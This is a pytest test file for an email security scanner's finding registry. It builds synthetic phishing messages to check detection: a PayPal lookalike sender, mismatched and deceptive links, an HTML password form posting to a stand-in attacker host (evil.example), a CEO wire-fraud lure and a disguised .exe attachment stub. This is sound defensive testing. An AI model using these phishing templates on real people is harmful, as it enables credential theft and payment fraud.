"""The finding registry: every finding the scanner emits is declared once, the verdict's deceptions and the doc table
come from it."""

from __future__ import annotations

import ast
import re
from pathlib import Path

import pytest
from modern_ham import MODERN_HAM

from mailsec.mime import parse_message
from mailsec.model import THREAT_CATEGORIES, Envelope
from mailsec.scan import registry, scan_message, verdict
from mailsec.scan.policy import BlockPolicy, ImpersonationEntry, Policy
from support import CORPORA, ROOT, make_eml

SCAN = ROOT / "src" / "mailsec" / "scan"
_NAME_RE = re.compile(r"^[A-Z][A-Z0-9]*(?:_[A-Z0-9]+)+$")


def _name_literals(path: Path) -> set[str]:
    """String constants shaped like finding names (`LINK_IP_HOST`) anywhere in a scan module."""
    tree = ast.parse(path.read_text("utf-8"))
    constants = (n.value for n in ast.walk(tree) if isinstance(n, ast.Constant) and isinstance(n.value, str))
    return {c for c in constants if _NAME_RE.match(c)}


def test_every_name_in_the_analyzers_is_declared() -> None:
    used: dict[str, str] = {}
    for path in sorted(SCAN.glob("*.py")):
        if path.name == "registry.py":
            continue
        for name in _name_literals(path):
            used[name] = path.name
    assert len(used) > 40
    undeclared = {n: where for n, where in used.items() if n not in registry.REGISTRY}
    assert not undeclared, f"declare these in scan/registry.py: {undeclared}"


def test_declarations_are_consistent() -> None:
    for s in registry.REGISTRY.values():
        assert s.category is None or s.category in THREAT_CATEGORIES, s.name
        assert s.fires_when and "|" not in s.fires_when, s.name
        if s.score < 0:
            assert s.disposition.value == "NONE", f"{s.name}: relief must be neutral so it lowers every level"
    assert frozenset(n for n, s in registry.REGISTRY.items() if s.deception) == verdict.DECEPTIONS
    assert "LINK_TEXT_MISMATCH" in verdict.DECEPTIONS and "LINK_SHORTENER" not in verdict.DECEPTIONS


def test_doc_table_is_in_step() -> None:
    doc = (ROOT / "docs" / "detection.md").read_text("utf-8")
    assert registry.render_into(doc) == doc, "run: python -m mailsec.scan.registry docs/detection.md"
    for name in registry.REGISTRY:
        assert f"| `{name}` |" in doc


def test_spec_make_uses_the_declaration() -> None:
    f = registry.spec("LINK_IP_HOST").make("A link goes to 192.0.2.1", field="link")
    assert (f.detection.value, f.score, f.category, f.field) == ("SUSPICIOUS", 3.0, "Link", "link")
    with pytest.raises(KeyError, match="NOT_A_FINDING"):
        registry.spec("NOT_A_FINDING")


def _hostile_messages() -> list[bytes]:
    html = (
        '<a href="http://192.0.2.7/login">https://www.paypal.com/signin</a> <a href="https://paypa1.com/x">x</a>'
        '<a href="https://paypal.com@evil.example/">y</a><a href="https://bit.ly/abc">z</a>'
        '<form action="https://evil.example/post" method="post"><input type="password" name="pw"></form>'
    )
    return [
        make_eml(sender='"PayPal Service" <service@paypa1.com>', subject="Your account is limited", html=html,
                 headers={"Reply-To": "helpdesk@gmail.com"}),
        make_eml(sender='"ceo@corp.example" <boss@mail.example>', subject="urgent wire",
                 body="Please send the payment today.",
                 attachments=[("invoice.pdf.exe", "application/octet-stream", b"MZ" + b"\0" * 200)]),
        make_eml(sender='"Jane Doe" <jane.doe@gmail.com>', subject="quick favour", body="Are you at your desk?"),
    ]  # fmt: skip


def test_every_emitted_finding_is_declared() -> None:
    """Scan synthetic phishing, the project's modern ham and (when present) a corpus sample with a policy that makes
    the policy analyzers speak: no finding name may be undeclared."""
    policy = Policy(
        block=(BlockPolicy("evil.example", "DOMAIN"),),
        protected_domains=("corp.example",),
        impersonation=(ImpersonationEntry("Jane Doe", "jane@corp.example"),),
    )
    raws = _hostile_messages() + [make_eml(sender=h.sender, subject=h.subject, body=h.body, html=h.html,
                                           headers=h.headers) for h in MODERN_HAM]  # fmt: skip
    for folder in ("phishing_pot", "phish-other/list-phish", "modern-ham/rendered/newsletters"):
        if (CORPORA / folder).is_dir():
            raws += [p.read_bytes() for p in sorted((CORPORA / folder).rglob("*.eml"))[:40]]
    seen: set[str] = set()
    for raw in raws:
        v = scan_message(parse_message(raw), Envelope(mail_from="bounce@evil.example"), policy)
        seen |= {f.name for f in v.findings}
    undeclared = seen - set(registry.REGISTRY)
    assert not undeclared, f"emitted but not declared in scan/registry.py: {undeclared}"
    assert {"LINK_IP_HOST", "BLOCKLISTED", "IMPERSONATION_REGISTERED_NAME"} <= seen
